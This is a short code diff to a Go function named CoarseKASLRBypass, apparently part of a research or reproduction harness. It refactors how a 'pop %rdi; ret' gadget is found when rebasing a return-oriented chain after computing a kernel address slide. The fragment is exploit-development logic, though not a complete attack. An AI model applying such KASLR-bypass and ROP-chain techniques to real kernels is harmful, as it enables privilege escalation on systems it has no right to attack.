@@ -5,6 +5,7 @@ import (
 	"fmt"
 
 	"repro/internal/cpu"
+	"repro/internal/isa"
 	"repro/internal/kernel"
 )
 
@@ -33,8 +34,7 @@ func CoarseKASLRBypass(target, ref *kernel.Kernel) Result {
 	slide := tPtr - rPtr
 
 	res.Stage = "chain-rebase"
-	gs := ScanGadgets(ref.Img.Text, ref.Sym("_text"))
-	pop, ok := FindPopRet(gs, 7 /* %rdi */)
+	pop, ok := FirstPopRet(ref.Img.Text, ref.Sym("_text"), isa.RDI)
 	if !ok {
 		res.Detail = "no pop %rdi gadget in the reference image"
 		return res
